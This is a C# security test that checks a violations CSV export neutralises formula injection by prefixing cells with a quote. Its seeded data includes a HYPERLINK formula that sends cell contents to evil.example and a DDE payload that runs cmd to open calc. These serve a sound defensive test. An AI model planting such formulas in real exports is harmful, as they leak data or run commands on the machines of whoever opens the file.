using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using Azure.Data.Tables;
using PriceCapAttest.Api.Tests.Infrastructure;
using PriceCapAttest.Contracts;
using PriceCapAttest.Pipeline;
using PriceCapAttest.Pipeline.Records;
using PriceCapAttest.Pipeline.Storage;

namespace PriceCapAttest.Api.Tests.Security;

/// <summary>
/// The violations CSV export (Accept: text/csv) through the local host, on rows seeded straight into the Violations
/// table (the validators refuse such names in documents, so this is what an older or altered row would carry): no
/// cell starts with = + - @, a tab or a carriage return (OWASP CSV injection); each such value is prefixed with a
/// single quote and otherwise unchanged.
/// </summary>
[Collection(LocalPipelineCollection.Name)]
public sealed class CsvExportNeutralisesFormulas(LocalPipelineFixture pipeline)
{
    private static readonly DateOnly LoadingDate = new(2031, 1, 17);

    [Fact]
    public async Task Formula_Cells_Are_Prefixed_With_A_Quote()
    {
        var values = new Dictionary<string, string>
        {
            ["ShipperId"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            ["AttestationId"] = "+SUM(1,2)",
            ["Imo"] = "-2+3",
            ["VesselName"] = "@cmd|' /C calc'!A0",
            ["RuleId"] = "\t=1+1",
            ["ScheduleVersion"] = "\r=2+2",
            ["BlobPath"] = "=attestations/x/y.json",
            ["Sha256"] = "-abc",
        };
        var reasons = new[] { "=EVIL()", "+plain" };
        var entity = new TableEntity("CH", RecordKeys.ViolationRow(LoadingDate, values["ShipperId"], values["AttestationId"], 1))
        {
            ["Regime"] = "CH",
            ["Version"] = 1,
            ["LoadingDate"] = LoadingDate.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture),
            ["Reasons"] = JsonSerializer.Serialize(reasons),
            ["ReceivedAt"] = DateTimeOffset.UtcNow,
        };
        foreach (var (name, value) in values)
        {
            entity[name] = value;
        }

        ScaledMoney.Write(entity, "CapUsdPerBbl", 60m);
        ScaledMoney.Write(entity, "PriceUsdPerBbl", 61m);
        var table = new TableServiceClient(pipeline.StorageConnectionString).GetTableClient(StorageNames.Tables.Violations);
        await table.UpsertEntityAsync(entity, TableUpdateMode.Replace);

        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri("violations?regime=CH&from=2031-01-17&to=2031-01-17", UriKind.Relative));
        request.Headers.Add("Accept", "text/csv");
        using var response = await pipeline.Operator.SendAsync(request); // any regime: the regulator of EU reads EU only
        var csv = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var rows = ParseCsv(csv);
        var header = rows[0];
        var row = Assert.Single(rows.Skip(1));
        Assert.Equal(header.Count, row.Count);
        foreach (var cell in row)
        {
            Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"unneutralised cell: {cell}");
        }

        string Cell(string column) => row[header.IndexOf(column)];
        Assert.Equal("'" + values["ShipperId"], Cell("shipperId"));
        Assert.Equal("'" + values["AttestationId"], Cell("attestationId"));
        Assert.Equal("'" + values["Imo"], Cell("imo"));
        Assert.Equal("'" + values["VesselName"], Cell("vesselName"));
        Assert.Equal("'" + values["RuleId"], Cell("ruleId"));
        Assert.Equal("'" + values["ScheduleVersion"], Cell("scheduleVersion"));
        Assert.Equal("'" + values["BlobPath"], Cell("blobPath"));
        Assert.Equal("'" + values["Sha256"], Cell("sha256"));
        Assert.Equal("'" + string.Join(';', reasons), Cell("reasons"));
        Assert.Equal("60", Cell("capUsdPerBbl"));
    }

    /// <summary>RFC 4180: comma separated, CRLF rows, quoted cells with doubled quotes (and line breaks inside quotes).</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
                i++;
            }
            else
            {
                cell.Append(c);
            }
        }

        Assert.False(quoted, "unterminated quoted cell");
        Assert.Empty(row);
        return rows;
    }
}
